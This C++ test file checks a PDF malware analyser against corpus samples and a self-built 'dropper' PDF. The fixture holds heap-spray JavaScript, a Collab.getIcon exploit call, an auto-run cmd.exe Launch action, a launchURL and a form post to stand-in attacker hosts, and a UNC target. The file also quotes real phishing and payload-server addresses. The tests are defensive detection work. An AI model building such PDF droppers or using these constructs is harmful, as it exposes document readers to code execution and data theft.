#include "kensa/pdf/pdf_analysis.h"

#include <algorithm>
#include <catch2/catch.hpp>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <sstream>

#include "kensa/archive/archive_reader.h"
#include "kensa/core/file.h"
#include "kensa/hashing/hashes.h"

namespace kensa::pdf {
namespace {

namespace fs = std::filesystem;

constexpr std::uint64_t kMaxTestFile = 64ull << 20;
const std::string kCorkami = "../shared/corpora/corkami/pdf/";

Bytes ReadOrFail(const std::string& path) {
  auto bytes = ReadFileBounded(path, kMaxTestFile);
  INFO(path);
  REQUIRE(bytes.has_value());
  return std::move(*bytes);
}

PdfAnalysis AnalyzeFile(const std::string& path) { return AnalyzePdf(ReadOrFail(path)); }

const analysis::v1::Anomaly* FindAnomaly(const PdfAnalysis& pdf, std::string_view code) {
  const auto it = std::find_if(pdf.anomalies.begin(), pdf.anomalies.end(),
                               [&](const auto& anomaly) { return anomaly.code() == code; });
  return it == pdf.anomalies.end() ? nullptr : &*it;
}

const analysis::v1::PdfScript* FindScript(const PdfAnalysis& pdf, std::string_view location) {
  const auto& scripts = pdf.info.scripts();
  const auto it = std::find_if(scripts.begin(), scripts.end(),
                               [&](const auto& script) { return script.location() == location; });
  return it == scripts.end() ? nullptr : &*it;
}

const analysis::v1::PdfAction* FindAction(const PdfAnalysis& pdf, std::string_view type) {
  const auto& actions = pdf.info.actions();
  const auto it = std::find_if(actions.begin(), actions.end(), [&](const auto& action) { return action.type() == type; });
  return it == actions.end() ? nullptr : &*it;
}

// qpdf renumbers objects when it rewrites a file: match the location around the number.
const analysis::v1::PdfScript* FindScriptAround(const PdfAnalysis& pdf, std::string_view prefix, std::string_view suffix) {
  const auto& scripts = pdf.info.scripts();
  const auto it = std::find_if(scripts.begin(), scripts.end(), [&](const auto& script) {
    return script.location().starts_with(prefix) && script.location().ends_with(suffix);
  });
  return it == scripts.end() ? nullptr : &*it;
}

std::uint32_t RawCount(const PdfAnalysis& pdf, std::string_view keyword) {
  for (const auto& count : pdf.info.keywords()) {
    if (count.keyword() == keyword) return count.count();
  }
  return 0;
}

TEST_CASE("corkami javascript.pdf: OpenAction and AA scripts with their places", "[pdf][corpus]") {
  const auto pdf = AnalyzeFile(kCorkami + "javascript.pdf");
  CHECK(pdf.error.empty());
  CHECK(pdf.info.version() == "1.0");
  CHECK(pdf.info.page_count() == 1);
  REQUIRE(pdf.info.scripts_size() == 3);
  const auto* open = FindScript(pdf, "catalog /OpenAction");
  REQUIRE(open != nullptr);
  CHECK(open->automatic());
  CHECK(open->object_number() == 1);
  CHECK(open->offset() == 52);
  CHECK(open->text() == "app.alert(\"http://www.corkami.com (Open Action)\");");
  // "/S /" (an empty name) on this one: Acrobat runs /JS regardless.
  REQUIRE(FindScript(pdf, "catalog /AA /WC") != nullptr);
  CHECK(FindScript(pdf, "catalog /AA /WC")->text().find("(Closing)") != std::string::npos);
  REQUIRE(FindScript(pdf, "page 1 /AA /O") != nullptr);
  CHECK(FindScript(pdf, "page 1 /AA /O")->object_number() == 3);
  REQUIRE(FindAnomaly(pdf, "pdf_javascript_auto_run") != nullptr);
  CHECK(FindAnomaly(pdf, "pdf_javascript_auto_run")->detail() ==
        "catalog /OpenAction (object 1, offset 52): app.alert(\"http://www.corkami.com (Open Action)\");");
  CHECK(RawCount(pdf, "/JS") == 3);
  CHECK(FindAnomaly(pdf, "pdf_keywords_hidden_from_raw_scan") == nullptr);
  // Every script goes to indicator extraction, where the URL is found.
  REQUIRE(pdf.decoded_texts.size() == 3);
  CHECK(pdf.decoded_texts[0].first.starts_with("pdf.javascript:"));
}

TEST_CASE("corkami launch.pdf: the OpenAction launches VIRUS.exe", "[pdf][corpus]") {
  const auto pdf = AnalyzeFile(kCorkami + "launch.pdf");
  const auto* launch = FindAction(pdf, "Launch");
  REQUIRE(launch != nullptr);
  CHECK(launch->target() == "VIRUS.exe");
  CHECK(launch->parameters().starts_with("line 1\nline 2\nline 3"));
  CHECK(launch->location() == "catalog /OpenAction");
  CHECK(launch->automatic());
  CHECK(launch->object_number() == 5);
  CHECK(launch->offset() == 399);
  REQUIRE(FindAnomaly(pdf, "pdf_launch_action_auto_run") != nullptr);
  CHECK(FindAnomaly(pdf, "pdf_launch_action_auto_run")->detail() ==
        "VIRUS.exe line 1 line 2 line 3 at catalog /OpenAction (object 5, offset 399)");
  CHECK(pdf.info.scripts_size() == 0);
}

TEST_CASE("corkami attachments: name tree and FileAttachment annotation, with name and hash", "[pdf][corpus]") {
  // Both carry "Hello World!" as simple.txt.
  const std::string hello_sha256 = "7f83b1657ff1fc53b92dc18148a1d65dfc2d4b1fa3d677284addd200126d9069";
  const auto names = AnalyzeFile(kCorkami + "attachedNames.pdf");
  REQUIRE(names.info.embedded_files_size() == 1);
  CHECK(names.info.embedded_files(0).name() == "simple.txt");
  CHECK(names.info.embedded_files(0).origin() == "EmbeddedFiles name tree");
  CHECK(names.info.embedded_files(0).sha256() == hello_sha256);
  CHECK(names.info.embedded_files(0).size() == 12);
  REQUIRE(names.embedded_file_data.size() == 1);
  CHECK(std::string(names.embedded_file_data[0].begin(), names.embedded_file_data[0].end()) == "Hello World!");
  REQUIRE(FindAnomaly(names, "pdf_embedded_file") != nullptr);
  CHECK(FindAnomaly(names, "pdf_embedded_executable") == nullptr);

  const auto annotation = AnalyzeFile(kCorkami + "attachedAnnot.pdf");
  REQUIRE(annotation.info.embedded_files_size() == 1);
  CHECK(annotation.info.embedded_files(0).origin() == "FileAttachment annotation");
  CHECK(annotation.info.embedded_files(0).sha256() == hello_sha256);
}

TEST_CASE("corkami structure-names.pdf: a script split across the JavaScript name tree", "[pdf][corpus]") {
  const auto pdf = AnalyzeFile(kCorkami + "structure-names.pdf");
  REQUIRE(pdf.info.scripts_size() == 2);
  const auto* second = FindScript(pdf, "catalog /Names /JavaScript \"2\"");
  REQUIRE(second != nullptr);
  CHECK(second->automatic());
  CHECK(second->text().find("app.alert(msg);") != std::string::npos);
  // The /OpenAction in the file's opening comment is no object: not reported as one.
  CHECK(FindAnomaly(pdf, "pdf_keywords_outside_structure") == nullptr);
}

TEST_CASE("corkami formevent_js.pdf: JavaScript in an XFA initialize event", "[pdf][corpus]") {
  const auto pdf = AnalyzeFile(kCorkami + "formevent_js.pdf");
  CHECK(pdf.info.has_xfa());
  CHECK(pdf.info.has_acroform());
  REQUIRE(pdf.info.scripts_size() == 1);
  CHECK(pdf.info.scripts(0).location() == "XFA (object 1) <script> in event initialize");
  CHECK(pdf.info.scripts(0).text().find("app.alert(this.id);") != std::string::npos);
  CHECK(pdf.info.scripts(0).automatic());
  CHECK(pdf.info.recovered());  // no /Length, no xref: qpdf repaired it
}

TEST_CASE("corkami javascript8.pdf: a trailer on the line of the object still opens", "[pdf][corpus]") {
  // qpdf's recovery only finds "trailer" at the start of a line; Kensa retries with a break.
  const auto pdf = AnalyzeFile(kCorkami + "javascript8.pdf");
  CHECK(pdf.error.empty());
  REQUIRE(pdf.info.scripts_size() == 1);
  CHECK(pdf.info.scripts(0).location() == "catalog /AA /WC");
  CHECK(pdf.info.scripts(0).text() == "app.alert('Hello World!');");
}

TEST_CASE("corkami js-eval.pdf and js-unescape.pdf: decoding layers in the summary", "[pdf][corpus]") {
  const auto eval = AnalyzeFile(kCorkami + "js-eval.pdf");
  REQUIRE(eval.info.javascript_findings_size() >= 1);
  CHECK(eval.info.javascript_findings(0).kind() == "eval");
  CHECK(eval.info.javascript_findings(0).script_index() == 0);
  const auto unescape = AnalyzeFile(kCorkami + "js-unescape.pdf");
  REQUIRE(unescape.info.javascript_findings_size() >= 1);
  CHECK(unescape.info.javascript_findings(0).kind() == "unescape");
}

TEST_CASE("corkami: every PDF trick is analyzed without an exception escaping", "[pdf][corpus]") {
  std::size_t files = 0;
  std::size_t with_scripts = 0;
  for (const auto& entry : fs::recursive_directory_iterator(kCorkami)) {
    if (!entry.is_regular_file() || entry.path().extension() != ".pdf") continue;
    const auto pdf = AnalyzeFile(entry.path().string());
    ++files;
    if (pdf.info.scripts_size() > 0) ++with_scripts;
    for (const auto& anomaly : pdf.anomalies) CHECK(anomaly.code().starts_with("pdf_"));
    std::string wire;
    CHECK(pdf.info.SerializeToString(&wire));  // valid UTF-8 everywhere
  }
  CHECK(files >= 100);
  CHECK(with_scripts >= 22);  // measured: 22 of corkami's PDFs carry a script qpdf can reach
}

// The InQuest 16Shop phishing PDFs: each sends the reader to a fake Apple/Amazon page.
TEST_CASE("inquest 16Shop phishing PDFs: the URI actions name the phishing pages", "[pdf][corpus]") {
  const auto zip = ReadOrFail("../shared/corpora/inquest-docs/2019-07-16Shop.zip");
  auto listing = archive::ReadArchive(zip, {"infected"}, {});
  REQUIRE(listing.has_value());
  std::size_t checked = 0;
  for (const auto& member : listing->members) {
    if (!member.name.ends_with("34f33612c9f6b132430385e6dc3f8603ff897d34c780bfa5a4cf7663922252ba")) continue;
    REQUIRE(member.extracted);
    const auto pdf = AnalyzePdf(member.data);
    CHECK(pdf.info.page_count() == 2);
    REQUIRE(FindAction(pdf, "URI") != nullptr);
    CHECK(FindAction(pdf, "URI")->target() == "https://secure2app-accdetall1.usa.cc.servsdlay.com/?16shop");
    CHECK(FindAction(pdf, "URI")->location().starts_with("annotation /Link"));
    REQUIRE(FindAnomaly(pdf, "pdf_uri") != nullptr);
    CHECK(FindAnomaly(pdf, "pdf_uri")->detail().starts_with("https://secure2app-accdetall1.usa.cc.servsdlay.com/?16shop at"));
    const bool in_texts = std::any_of(pdf.decoded_texts.begin(), pdf.decoded_texts.end(), [](const auto& text) {
      return text.first == "pdf.action:URI" && text.second.find("servsdlay.com") != std::string::npos;
    });
    CHECK(in_texts);
    ++checked;
  }
  CHECK(checked == 1);
}

TEST_CASE("inquest malspam PDF: the link to the payload server", "[pdf][corpus]") {
  const auto zip = ReadOrFail("../shared/corpora/inquest-docs/Quick-Analysis-of-a-Customer-Malspam-Encounter.zip");
  auto listing = archive::ReadArchive(zip, {"infected"}, {});
  REQUIRE(listing.has_value());
  std::size_t checked = 0;
  for (const auto& member : listing->members) {
    if (!member.name.ends_with("9e8eb1889ec6b32a6074dd5b963c84fd27d7ba7f314ea997f3e3eb4a1ac70757")) continue;
    const auto pdf = AnalyzePdf(member.data);
    REQUIRE(FindAction(pdf, "URI") != nullptr);
    CHECK(FindAction(pdf, "URI")->target() == "http://3.89.91.237/oYen-ii0u_WkLaQiA-yG");
    ++checked;
  }
  CHECK(checked == 1);
}

// ---- Documents written here and rewritten by the qpdf command (scripts/install-deps). ----

class TempDir {
 public:
  TempDir() {
    path_ = fs::temp_directory_path() / ("kensa-pdf-test-" + std::to_string(std::rand()) + "-" +
                                         std::to_string(reinterpret_cast<std::uintptr_t>(this)));
    fs::create_directories(path_);
  }
  ~TempDir() {
    std::error_code ignored;
    fs::remove_all(path_, ignored);
  }
  std::string File(const std::string& name) const { return (path_ / name).string(); }

 private:
  fs::path path_;
};

// A stream object with a correct /Length.
std::string StreamObject(int number, const std::string& dict_entries, const std::string& data) {
  return std::to_string(number) + " 0 obj\n<< " + dict_entries + " /Length " + std::to_string(data.size()) +
         " >>\nstream\n" + data + "\nendstream\nendobj\n";
}

const std::string kDropperScript =
    "var nop = unescape('%u0c0c%u0c0c'); while (nop.length < 0x100000) nop += nop;\n"
    "Collab.getIcon('N.' + nop);\n"
    "this.exportDataObject({ cName: 'invoice.exe', nLaunch: 2 });\n"
    "app.launchURL('http://payload.example.org/stage2.bin');\n";
const std::string kPayload = "MZ this stands in for a program";

// Every hiding place in one document, without a cross-reference table (qpdf rebuilds it).
std::string DropperPdf() {
  std::string pdf = "%PDF-1.7\n";
  pdf += "1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R "
         "/Names << /EmbeddedFiles << /Names [(invoice.exe) 7 0 R] >> >> "
         "/AcroForm << /Fields [9 0 R] /XFA 10 0 R >> >>\nendobj\n";
  pdf += "2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n";
  pdf += "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R 9 0 R] "
         "/AA << /O << /S /Launch /Win << /F (cmd.exe) /P (/c start invoice.exe) >> >> >> >>\nendobj\n";
  pdf += "4 0 obj\n<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] "
         "/A << /S /URI /URI (http://evil.example.com/landing) >> >>\nendobj\n";
  pdf += "5 0 obj\n<< /S /JavaScript /JS 6 0 R /Next << /S /SubmitForm /F << /FS /URL /F "
         "(https://collect.example.net/post) >> /Next [ << /S /GoToE /F (\\\\\\\\192.0.2.7\\\\share\\\\x.pdf) >> ] >> >>\n"
         "endobj\n";
  pdf += StreamObject(6, "", kDropperScript);
  pdf += "7 0 obj\n<< /Type /Filespec /F (invoice.exe) /UF (invoice.exe) /EF << /F 8 0 R >> >>\nendobj\n";
  pdf += StreamObject(8, "/Type /EmbeddedFile /Subtype /application#2Fx-msdownload", kPayload);
  pdf += "9 0 obj\n<< /Type /Annot /Subtype /Widget /Rect [0 0 10 10] /T (pay) /FT /Btn "
         "/AA << /K << /S /J#61vaScript /JS (app.alert\\(1\\);) >> >> >>\nendobj\n";
  pdf += StreamObject(10, "",
                      "<xdp:xdp><template><subform><field><event activity=\"initialize\">"
                      "<script contentType=\"application/x-javascript\">xfa.host.messageBox('xfa');</script>"
                      "</event></field></subform></template></xdp:xdp>");
  pdf += StreamObject(11, "/Type /XObject /Subtype /Image /Width 8 /Height 8 /BitsPerComponent 1 /Filter /JBIG2Decode",
                      "not really jbig2");
  pdf += "12 0 obj\n<< /S /JavaScript /JS (orphan\\(\\);) >>\nendobj\n";
  pdf += "trailer\n<< /Root 1 0 R /Size 13 /Info << /Producer (Kensa test) /Author (Taro) "
         "/CreationDate (D:20240102030405+09'00') >> >>\n%%EOF\n";
  return pdf;
}

void CheckDropperFindings(const PdfAnalysis& pdf) {
  const auto* open = FindScript(pdf, "catalog /OpenAction");
  REQUIRE(open != nullptr);
  CHECK(open->automatic());
  CHECK(open->text().find("Collab.getIcon") != std::string::npos);
  const auto* field = FindScriptAround(pdf, "field \"pay\" (object ", ") /AA /K");
  REQUIRE(field != nullptr);
  CHECK(field->text() == "app.alert(1);");
  CHECK(field->automatic());
  const auto* xfa = FindScriptAround(pdf, "XFA (object ", ") <script> in event initialize");
  REQUIRE(xfa != nullptr);
  CHECK(xfa->text() == "xfa.host.messageBox('xfa');");

  const auto* launch = FindAction(pdf, "Launch");
  REQUIRE(launch != nullptr);
  CHECK(launch->target() == "cmd.exe");
  CHECK(launch->parameters() == "/c start invoice.exe");
  CHECK(launch->location() == "page 1 /AA /O");
  CHECK(launch->automatic());
  REQUIRE(FindAction(pdf, "URI") != nullptr);
  CHECK(FindAction(pdf, "URI")->target() == "http://evil.example.com/landing");
  CHECK(FindAction(pdf, "URI")->location().starts_with("annotation /Link (object "));
  CHECK(FindAction(pdf, "URI")->location().ends_with(") /A"));
  CHECK_FALSE(FindAction(pdf, "URI")->automatic());
  REQUIRE(FindAction(pdf, "SubmitForm") != nullptr);
  CHECK(FindAction(pdf, "SubmitForm")->target() == "https://collect.example.net/post");
  CHECK(FindAction(pdf, "SubmitForm")->location() == "catalog /OpenAction /Next");
  REQUIRE(FindAction(pdf, "GoToE") != nullptr);
  CHECK(FindAction(pdf, "GoToE")->target() == "\\\\192.0.2.7\\share\\x.pdf");
  CHECK(FindAction(pdf, "GoToE")->location() == "catalog /OpenAction /Next /Next[0]");
  CHECK(FindAction(pdf, "GoToE")->automatic());

  REQUIRE(pdf.info.embedded_files_size() == 1);
  CHECK(pdf.info.embedded_files(0).name() == "invoice.exe");
  CHECK(pdf.info.embedded_files(0).origin() == "EmbeddedFiles name tree");
  CHECK(pdf.info.embedded_files(0).mime_type() == "application/x-msdownload");
  CHECK(pdf.info.embedded_files(0).sha256() == hashing::Sha256Hex(ByteSpan(
                                                   reinterpret_cast<const std::uint8_t*>(kPayload.data()), kPayload.size())));

  for (const char* code : {"pdf_javascript_auto_run", "pdf_launch_action_auto_run", "pdf_embedded_executable",
                           "pdf_javascript_exports_attachment", "pdf_exploit_api", "pdf_heap_spray", "pdf_uri",
                           "pdf_submitform", "pdf_remote_action", "pdf_unc_target"}) {
    INFO(code);
    CHECK(FindAnomaly(pdf, code) != nullptr);
  }
  CHECK(FindAnomaly(pdf, "pdf_exploit_api")->detail().starts_with("Collab.getIcon (CVE-2009-0927) in catalog /OpenAction"));
  CHECK(FindAnomaly(pdf, "pdf_heap_spray")->detail().starts_with("%u0c0c%u0c0c in catalog /OpenAction"));
  CHECK(FindAnomaly(pdf, "pdf_unc_target")->detail().starts_with("GoToE \\\\192.0.2.7\\share\\x.pdf at"));
  const bool url_in_texts = std::any_of(pdf.decoded_texts.begin(), pdf.decoded_texts.end(), [](const auto& text) {
    return text.second.find("http://payload.example.org/stage2.bin") != std::string::npos;
  });
  CHECK(url_in_texts);
}

bool RunQpdf(const std::string& arguments) {
  // qpdf exits 3 when it succeeded with warnings (a rebuilt cross-reference table here).
  const int status = std::system(("qpdf " + arguments + " >/dev/null 2>&1").c_str());
  return status != -1 && WIFEXITED(status) && (WEXITSTATUS(status) == 0 || WEXITSTATUS(status) == 3);
}

TEST_CASE("a hand-written dropper: every hiding place, found in the damaged original", "[pdf][fixture]") {
  const std::string text = DropperPdf();
  const auto pdf = AnalyzePdf(ByteSpan(reinterpret_cast<const std::uint8_t*>(text.data()), text.size()));
  CheckDropperFindings(pdf);
  CHECK(pdf.info.xref_reconstructed());
  CHECK(FindAnomaly(pdf, "pdf_xref_reconstructed") != nullptr);
  CHECK(pdf.info.document_info().producer() == "Kensa test");
  CHECK(pdf.info.document_info().created() == "2024-01-01T18:04:05Z");
  // The unreferenced action object is still found.
  REQUIRE(FindScript(pdf, "unreferenced object 12") != nullptr);
  CHECK_FALSE(FindScript(pdf, "unreferenced object 12")->automatic());
  // /J#61vaScript on the widget's action.
  REQUIRE(FindAnomaly(pdf, "pdf_name_obfuscation") != nullptr);
  CHECK(FindAnomaly(pdf, "pdf_name_obfuscation")->detail() == "written with #xx escapes: /JavaScript 1 of 3 times");
  REQUIRE(FindAnomaly(pdf, "pdf_jbig2") != nullptr);
  CHECK(FindAnomaly(pdf, "pdf_jbig2")->detail() == "1 stream(s) use the JBIG2Decode filter");
}

TEST_CASE("the dropper rewritten into compressed object streams: hidden from a raw scan", "[pdf][fixture]") {
  TempDir dir;
  const std::string text = DropperPdf();
  REQUIRE(WriteFileAtomically(dir.File("dropper.pdf"), text).ok());
  REQUIRE(RunQpdf("--object-streams=generate --compress-streams=y " + dir.File("dropper.pdf") + " " +
                  dir.File("objstm.pdf")));
  const auto pdf = AnalyzeFile(dir.File("objstm.pdf"));
  CheckDropperFindings(pdf);
  CHECK(pdf.info.object_stream_count() >= 1);
  CHECK(RawCount(pdf, "/OpenAction") == 0);
  CHECK(RawCount(pdf, "/ObjStm") >= 1);
  REQUIRE(FindAnomaly(pdf, "pdf_keywords_hidden_from_raw_scan") != nullptr);
  const std::string hidden = FindAnomaly(pdf, "pdf_keywords_hidden_from_raw_scan")->detail();
  CHECK(hidden.find("/OpenAction") != std::string::npos);
  CHECK(hidden.find("/Launch") != std::string::npos);
  CHECK(hidden.find("/JS") != std::string::npos);
  CHECK_FALSE(pdf.info.xref_reconstructed());
}

TEST_CASE("the dropper encrypted with an empty user password is read through", "[pdf][fixture]") {
  TempDir dir;
  REQUIRE(WriteFileAtomically(dir.File("dropper.pdf"), DropperPdf()).ok());
  REQUIRE(RunQpdf("--encrypt '' owner-secret 256 -- " + dir.File("dropper.pdf") + " " + dir.File("aes.pdf")));
  const auto pdf = AnalyzeFile(dir.File("aes.pdf"));
  CHECK(pdf.info.encryption().encrypted());
  CHECK(pdf.info.encryption().method() == "AES-256");
  CHECK(pdf.info.encryption().revision() == 6);
  CHECK(pdf.info.encryption().opens_without_password());
  CheckDropperFindings(pdf);
  REQUIRE(FindAnomaly(pdf, "pdf_encrypted") != nullptr);
  CHECK(FindAnomaly(pdf, "pdf_encrypted")->detail() == "AES-256, revision 6; opens without a password (empty user password)");
  CHECK(FindAnomaly(pdf, "pdf_password_protected") == nullptr);
}

TEST_CASE("a PDF that needs a user password: noted, and the raw scan still runs", "[pdf][fixture]") {
  TempDir dir;
  REQUIRE(WriteFileAtomically(dir.File("dropper.pdf"), DropperPdf()).ok());
  REQUIRE(RunQpdf("--encrypt user-secret owner-secret 256 -- " + dir.File("dropper.pdf") + " " + dir.File("locked.pdf")));
  const auto pdf = AnalyzeFile(dir.File("locked.pdf"));
  CHECK(pdf.info.encryption().encrypted());
  CHECK_FALSE(pdf.info.encryption().opens_without_password());
  CHECK(pdf.error == "invalid password");
  CHECK(FindAnomaly(pdf, "pdf_password_protected") != nullptr);
  CHECK(FindAnomaly(pdf, "pdf_unparseable") == nullptr);
  CHECK(RawCount(pdf, "/Encrypt") == 1);
  CHECK(RawCount(pdf, "/OpenAction") == 1);
  CHECK(pdf.info.scripts_size() == 0);
}

TEST_CASE("bounds: a Flate bomb script and a tiny budget end with findings, not memory", "[pdf][limits]") {
  TempDir dir;
  // 64 MiB of spaces and one statement, compressed by qpdf to a few tens of KiB.
  std::string script(64u << 20, ' ');
  script += "app.alert('end');";
  std::string pdf = "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS 3 0 R >> >>\n"
                    "endobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n" +
                    StreamObject(3, "", script) + "trailer\n<< /Root 1 0 R >>\n";
  REQUIRE(WriteFileAtomically(dir.File("bomb-source.pdf"), pdf).ok());
  REQUIRE(RunQpdf("--compress-streams=y " + dir.File("bomb-source.pdf") + " " + dir.File("bomb.pdf")));
  const auto bytes = ReadOrFail(dir.File("bomb.pdf"));
  REQUIRE(bytes.size() < (1u << 20));

  PdfLimits limits;
  limits.max_stream_bytes = 1u << 20;
  const auto bounded = AnalyzePdf(bytes, limits);
  REQUIRE(bounded.info.scripts_size() == 1);
  CHECK(bounded.info.scripts(0).truncated());
  CHECK(bounded.info.scripts(0).size() == limits.max_stream_bytes);
  CHECK(bounded.info.decoded_stream_bytes() == limits.max_stream_bytes);

  limits.max_total_decoded_bytes = 4096;
  const auto budget = AnalyzePdf(bytes, limits);
  CHECK(FindAnomaly(budget, "pdf_decoded_bytes_limit") != nullptr);
  CHECK(budget.info.decoded_stream_bytes() == 4096);

  PdfLimits no_time;
  no_time.max_duration = std::chrono::milliseconds(0);
  const auto timed_out = AnalyzePdf(bytes, no_time);
  CHECK(FindAnomaly(timed_out, "pdf_time_limit") != nullptr);
}

TEST_CASE("hostile input: garbage, truncation and emptiness are findings, not errors", "[pdf][limits]") {
  const auto empty = AnalyzePdf(ByteSpan());
  CHECK(empty.error == "empty file");
  const std::string garbage = "%PDF-1.7\n\x01\x02 obj << /JS (x) /OpenAction 9 0 R";
  const auto broken = AnalyzePdf(ByteSpan(reinterpret_cast<const std::uint8_t*>(garbage.data()), garbage.size()));
  CHECK_FALSE(broken.error.empty());
  CHECK(FindAnomaly(broken, "pdf_unparseable") != nullptr);
  REQUIRE(FindAnomaly(broken, "pdf_keywords_outside_structure") != nullptr);
  CHECK(FindAnomaly(broken, "pdf_keywords_outside_structure")->detail().find("/JS (1 in the bytes)") != std::string::npos);

  // Found by pdf_fuzz: a dictionary key is raw bytes ("/#FF#FE" is 0xFF 0xFE), and the script's
  // location names it.
  const std::string raw_key =
      "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R /#FF#FE << /A << /S /JavaScript /JS (x) >> >> >> endobj\n"
      "2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n";
  const auto keyed = AnalyzePdf(ByteSpan(reinterpret_cast<const std::uint8_t*>(raw_key.data()), raw_key.size()));
  REQUIRE(keyed.info.scripts_size() == 1);
  CHECK(keyed.info.scripts(0).location() == "catalog /\xC3\xBF\xC3\xBE /A");  // the bytes read as Latin-1
  std::string keyed_wire;
  CHECK(keyed.info.SerializeToString(&keyed_wire));

  const auto launch = ReadOrFail(kCorkami + "launch.pdf");
  for (std::size_t cut = 0; cut < launch.size(); cut += 7) {
    const auto pdf = AnalyzePdf(ByteSpan(launch).first(cut));
    std::string wire;
    CHECK(pdf.info.SerializeToString(&wire));
  }

  PdfLimits small;
  small.max_input_bytes = 100;
  const auto too_large = AnalyzePdf(launch, small);
  CHECK(FindAnomaly(too_large, "pdf_too_large") != nullptr);
  CHECK(RawCount(too_large, "/Launch") == 1);
}

}  // namespace
}  // namespace kensa::pdf
